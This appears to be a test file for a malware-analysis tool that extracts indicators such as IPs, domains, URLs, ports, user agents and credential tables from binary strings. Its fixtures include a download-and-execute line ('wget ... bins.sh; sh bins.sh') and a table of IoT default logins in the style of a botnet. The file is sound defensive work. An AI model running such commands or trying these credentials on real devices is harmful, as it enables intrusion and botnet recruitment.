// Tests for indicator extraction: address and name validation edge cases, URLs, ports, user agents,
// credential lists, deduplication, caps, and random input.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { extractIndicators, isPlausibleDomain } from './indicators.ts';
import { extractStrings, type ExtractedString } from './strings.ts';

const ascii = (...texts: string[]): ExtractedString[] => texts.map((text, i) => ({ offset: i * 1000, text, encoding: 'ascii' }));
const values = <T>(hits: readonly { value: T }[]): T[] => hits.map((h) => h.value);

test('IPv4: valid octets only, version numbers and longer dotted runs refused', () => {
  const ind = extractIndicators(
    ascii('connect 185.10.68.20 now', 'ip=8.8.8.8', '256.1.1.1', '1.2.3.4.5', 'v1.2.3.4', 'Linux 2.6.36.4', 'BusyBox v1.20.2.1', '010.1.1.1', 'Chrome/51.0.2704.103'),
  );
  assert.deepEqual(values(ind.ipv4), ['185.10.68.20', '8.8.8.8']);
});

test('IPv6: validated, C++ scopes and hex words refused', () => {
  const ind = extractIndicators(ascii('2001:db8::1', 'fe80::1%eth0', 'std::string', 'dead::beef', '[2001:db8:0:0:0:0:0:2]:443', '::ffff:192.0.2.1', 'a:b'));
  assert.deepEqual(values(ind.ipv6), ['2001:db8::1', 'fe80::1', '2001:db8:0:0:0:0:0:2', '::ffff:192.0.2.1']);
  assert.deepEqual(values(ind.hostPorts), ['[2001:db8:0:0:0:0:0:2]:443']);
});

test('domains: known TLDs only; file names, library names and paths refused', () => {
  const ind = extractIndicators(
    ascii('cnc.example.net', 'busybox.net', 'bins.sh', 'x.sh', 'libc.so.6', 'libc.so', '/etc/resolv.conf', '/tmp/evil.com', 'main.c', '.rela.dyn', 'dl.evil.sh', 'WWW.Example.COM.', 'report.changeme.com'),
  );
  assert.deepEqual(values(ind.domains), ['cnc.example.net', 'busybox.net', 'dl.evil.sh', 'www.example.com', 'report.changeme.com']);
  assert.equal(isPlausibleDomain('a-.com'), false);
  assert.equal(isPlausibleDomain('x'.repeat(64) + '.com'), false);
});

test('URLs (http, https, ftp, tftp) with their hosts and ports; format strings refused', () => {
  const ind = extractIndicators(
    ascii('wget http://1.2.3.4/bins.sh; sh bins.sh', 'tftp://10.0.0.1:69/x86', 'see https://evil.example.com:8443/a?b=c).', 'ftp://files.example.org/pub/', 'http://%s:%d/%s'),
  );
  assert.deepEqual(values(ind.urls), ['http://1.2.3.4/bins.sh', 'tftp://10.0.0.1:69/x86', 'https://evil.example.com:8443/a?b=c', 'ftp://files.example.org/pub/']);
  assert.deepEqual(values(ind.domains).sort(), ['evil.example.com', 'files.example.org']);
  assert.deepEqual(values(ind.ports), [69, 8443]);
});

test('host:port pairs and bare port hints', () => {
  const ind = extractIndicators(ascii('cnc.example.net:23', '185.10.68.20:6667', 'build.c:123', 'time 12:30:45', 'listen port 48101', 'PORT=99999'));
  assert.deepEqual(values(ind.hostPorts), ['cnc.example.net:23', '185.10.68.20:6667']);
  assert.deepEqual(values(ind.ports), [23, 6667, 48101]);
  assert.deepEqual(ind.ports.map((p) => p.source), ['host-port', 'host-port', 'hint']);
});

test('user agents: browser strings, User-Agent headers and tool agents', () => {
  const ua = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36';
  const ind = extractIndicators(ascii(ua, 'User-Agent: Hello, World', 'User-Agent: %s', 'Wget/1.20.3 (linux-gnu)', 'Mozilla'));
  assert.deepEqual(values(ind.userAgents), [ua, 'Hello, World', 'Wget/1.20.3']);
});

test('credential lists: alternating user/password runs become pairs; inline pairs too', () => {
  const table = ['root', 'xc3511', 'root', 'vizxv', 'admin', 'admin', 'support', 'support'];
  const strings: ExtractedString[] = table.map((text, i) => ({ offset: 100 + i * 12, text, encoding: 'ascii' }));
  strings.push({ offset: 5000, text: 'root:xmhdipc', encoding: 'ascii' });
  const ind = extractIndicators(strings);
  assert.equal(ind.credentials.lists.length, 1);
  assert.deepEqual(ind.credentials.lists[0]?.entries, table);
  assert.deepEqual(
    ind.credentials.pairs.map((p) => `${p.username}/${p.password}`),
    ['root/xc3511', 'root/vizxv', 'admin/admin', 'support/support', 'root/xmhdipc'],
  );
});

test('credential lists: separate user and password tables are listed without guessing pairs', () => {
  const users = ['root', 'admin', 'user', 'guest', 'support'];
  const strings: ExtractedString[] = users.map((text, i) => ({ offset: i * 8, text, encoding: 'ascii' }));
  const ind = extractIndicators(strings);
  assert.equal(ind.credentials.lists.length, 1);
  assert.deepEqual(ind.credentials.pairs, []);
  // Far apart: no run.
  const apart = users.map((text, i): ExtractedString => ({ offset: i * 5000, text, encoding: 'ascii' }));
  assert.equal(extractIndicators(apart).credentials.lists.length, 0);
});

test('duplicates are reported once and every list is capped', () => {
  const many = Array.from({ length: 50 }, (_, i) => `10.0.0.${i} host${i}.example.com`);
  const ind = extractIndicators(ascii(...many, ...many), { maxPerKind: 10 });
  assert.equal(ind.ipv4.length, 10);
  assert.equal(ind.domains.length, 10);
  assert.equal(ind.truncated, true);
  assert.equal(extractIndicators(ascii('8.8.8.8', '8.8.8.8')).ipv4.length, 1);
});

test('UTF-16 strings give byte offsets two per character', () => {
  const data = Buffer.concat([Buffer.alloc(8), Buffer.from('c2 at evil.example.com', 'utf16le')]);
  const ind = extractIndicators(extractStrings(data).strings);
  assert.deepEqual(ind.domains, [{ value: 'evil.example.com', offset: 8 + 6 * 2 }]);
});

test('random bytes and random text never throw and stay within caps', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 4096 }), fc.array(fc.string({ maxLength: 200 }), { maxLength: 30 }), (data, texts) => {
      const ind = extractIndicators([...extractStrings(data).strings, ...ascii(...texts)], { maxPerKind: 5 });
      for (const list of [ind.ipv4, ind.ipv6, ind.domains, ind.urls, ind.hostPorts, ind.ports, ind.userAgents]) assert.ok(list.length <= 5);
      assert.ok(ind.credentials.pairs.length <= 5);
    }),
    { numRuns: 150 },
  );
});
